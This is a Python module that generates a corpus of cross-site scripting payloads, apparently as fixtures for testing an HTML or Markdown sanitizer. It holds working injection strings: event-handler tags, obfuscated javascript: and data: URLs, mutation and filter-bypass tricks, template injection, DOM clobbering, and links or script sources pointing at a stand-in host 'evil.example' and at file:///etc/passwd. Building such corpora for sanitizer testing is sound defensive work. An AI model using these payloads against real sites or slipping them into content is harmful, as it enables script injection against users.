"""What people put where text is expected, to make a browser run it: made from tables."""

from itertools import product

SCRIPTS = ("alert(1)", "top.hacked=1")
HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationend")
TAGS = (
    '<img src=x {h}="{s}">',
    "<svg {h}={s}>",
    "<svg/{h}={s}>",
    '<body {h}="{s}">',
    '<details open {h}="{s}">',
    '<video {h}="{s}"><source src=x></video>',
    '<input autofocus {h}="{s}">',
    '<a href="#" {h}="{s}">x</a>',
    '<style>@keyframes x{{}}</style><b style="animation-name:x" {h}="{s}"></b>',
)
SCHEMES = (
    "javascript:{s}",
    "JaVaScRiPt:{s}",
    "java\tscript:{s}",
    "java\nscript:{s}",
    "\x01javascript:{s}",
    " javascript:{s}",
    "javascript&colon;{s}",
    "&#106;avascript:{s}",
    "&#x6A;avascript:{s}",
    "javascript&#58;{s}",
    "%6Aavascript:{s}",
    "vbscript:{s}",
    "data:text/html,<script>{s}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={s}>",
    "//evil.example/{s}",
    "https://evil.example/{s}",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "https://user:password@evil.example/{s}",
)
LINKS = (
    "[click]({u})",
    "[click](<{u}>)",
    '[click]({u} "title")',
    "![image]({u})",
    "[click][1]\n\n[1]: {u}",
    "<{u}>",
    '<a href="{u}">click</a>',
    '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>x</button></form>',
    '<link rel=stylesheet href="{u}">',
    '<base href="{u}">',
    '<object data="{u}"></object>',
    '<meta http-equiv=refresh content="0;url={u}">',
    "[![i]({u})]({u})",
    "| a |\n|---|\n| [click]({u}) |",
)
WHOLE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<template><img src=x onerror=alert(1)></template>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '```"><script>alert(1)</script>\ncode\n```',
    "```js onload=alert(1)\ncode\n```",
    '```"onmouseover="alert(1)\ncode\n```',
    "`</code><script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<b style="width:expression(alert(1))">x</b>',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<x-widget></x-widget>",
    '<a class="dt-cite" href="https://evil.example" data-citation="1">1</a>',
    "<a id=location href=https://evil.example>clobber</a>",
    "<img name=getElementById>",
    "[a](javascript:alert(1)//https://docs.example.com/guide/rollback)",
)


def corpus() -> list[str]:
    """Every payload once, in a fixed order."""
    made = [tag.format(h=h, s=s) for tag, h, s in product(TAGS, HANDLERS, SCRIPTS[:1])]
    urls = [scheme.format(s=SCRIPTS[index % 2]) for index, scheme in enumerate(SCHEMES)]
    made += [link.format(u=url) for link, url in product(LINKS, urls)]
    return list(dict.fromkeys((*made, *WHOLE)))


def urls() -> list[str]:
    """The addresses alone."""
    return [scheme.format(s=SCRIPTS[0]) for scheme in SCHEMES]
